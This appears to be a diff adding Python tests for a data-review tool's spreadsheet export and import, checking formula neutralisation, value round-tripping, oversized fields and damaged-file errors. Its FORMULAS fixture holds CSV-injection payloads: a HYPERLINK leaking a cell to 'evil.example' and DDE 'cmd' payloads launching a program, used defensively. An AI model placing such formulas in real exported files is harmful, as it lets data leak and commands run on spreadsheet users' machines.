@@ -144,3 +144,94 @@ def test_human_decisions_survive_a_rerun_of_denoise(tmp_path):
     assert "q5" in by_id  # beta=1.0 now keeps the relabel a person did not touch
     tool = {d["id"]: d for d in read_jsonl(again.out_dir / "denoised.before_review.jsonl")}
     assert tool["q2"]["label"] == "D" and "q1" in tool
+
+
+def rewrite_records(run_dir, change):
+    """Edit samples.jsonl (and the matching rows of denoised.jsonl) in place: change(record) -> record."""
+    for name in ("samples.jsonl", "denoised.jsonl"):
+        rows = [change(r) for r in read_jsonl(run_dir / name)]
+        (run_dir / name).write_text("".join(json.dumps(r) + "\n" for r in rows), encoding="utf-8")
+
+
+FORMULAS = {"q1": '=HYPERLINK("http://evil.example/?leak="&A1,"click")', "q2": "+cmd|' /C calc'!A0",
+            "q3": "@SUM(1+1)*cmd|' /C calc'!A0", "q5": "\t=1+1"}
+
+
+def test_export_neutralises_spreadsheet_formulas_and_import_restores_them(run_dir):
+    def change(r):
+        if r["id"] in FORMULAS:
+            r["question"] = FORMULAS[r["id"]]
+        if r["id"] == "q2":
+            r["id"] = "=2+2"  # an id a spreadsheet would compute
+        if r.get("proposed_label") == "D":
+            r["proposed_label"] = "-1"  # a plain number stays a number
+        return r
+
+    rewrite_records(run_dir, change)
+    path, _ = export_review(run_dir)
+    with open(path, newline="", encoding="utf-8-sig") as fh:
+        cells = [cell for row in csv.reader(fh) for cell in row]
+    dangerous = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r") and c != "-1"]
+    assert dangerous == []
+    rows = read_csv(path)
+    assert rows[0]["question"] == "'" + FORMULAS["q1"] and rows[1]["id"] == "'=2+2"
+    assert rows[1]["proposed_label"] == "-1"
+    # A person decides in the spreadsheet; the file goes back as it came.
+    write_csv(path, decide(rows, **{"'=2+2": "keep"}))
+    result = import_review(run_dir, path)
+    assert [(c["id"], c["effect"]) for c in result.changed] == [("=2+2", "relabeled")]
+    after = {d["id"]: d for d in read_jsonl(run_dir / "denoised.jsonl")}
+    assert after["=2+2"]["label"] == "A" and after["=2+2"]["source"] == "human"
+
+
+@pytest.mark.parametrize("value", ["=1", "'=1", "''+x", "'plain", "-3.5", "+2", "-", "@", "a=b", "", "\r\n=x"])
+def test_the_formula_guard_round_trips_every_value(value):
+    from robustft.inspect.review import neutralise_cell, restore_cell
+
+    assert restore_cell(neutralise_cell(value)) == value
+    assert neutralise_cell(value)[:1] not in ("=", "+", "@", "\t", "\r") or value in ("-3.5", "+2")
+
+
+def test_fields_past_the_csv_module_limit_and_odd_line_breaks_round_trip(run_dir):
+    long_question = "A long context paragraph. " * 8000  # about 200 KB, past csv's default 128 KB field limit
+    odd = "one\u2028two\x1cthree\x85four"
+
+    def change(r):
+        if r["id"] == "q1":
+            r["question"] = long_question
+        if r["id"] == "q3":
+            r["question"] = odd
+        return r
+
+    rewrite_records(run_dir, change)
+    path, _ = export_review(run_dir)
+    rows = read_csv_large(path)
+    assert rows[0]["question"] == long_question and rows[2]["question"] == odd
+    write_csv(path, decide(rows, q1="B", q3="accept"))
+    result = import_review(run_dir, path)
+    assert sorted(c["id"] for c in result.changed) == ["q1", "q3"]
+
+
+def read_csv_large(path):
+    old = csv.field_size_limit(10**8)
+    try:
+        return read_csv(path)
+    finally:
+        csv.field_size_limit(old)
+
+
+@pytest.mark.parametrize("content, needle", [
+    (b"id,decision\nq1,keep\x00\n", "line 2: holds a NUL byte"),
+    (b"id,decision\nq1,\xff\xfekeep\n", "line 2: not UTF-8"),
+    (b"id,decision\nq1,keep,extra,cells\n", "row 1: more cells than columns"),
+    (b"question,answer\nq,a\n", "needs the columns 'id' and 'decision'"),
+    (b"", "needs the columns 'id' and 'decision' (found: none)"),
+])
+def test_a_damaged_review_file_is_named_and_nothing_changes(run_dir, content, needle, capsys):
+    path = run_dir / "review.csv"
+    path.write_bytes(content)
+    before = {p.name: p.read_bytes() for p in run_dir.iterdir() if p.is_file()}
+    assert main(["review", "import", str(run_dir), str(path)]) == 2
+    err = capsys.readouterr().err
+    assert str(path) in err and needle in err and "Traceback" not in err
+    assert {p.name: p.read_bytes() for p in run_dir.iterdir() if p.is_file()} == before
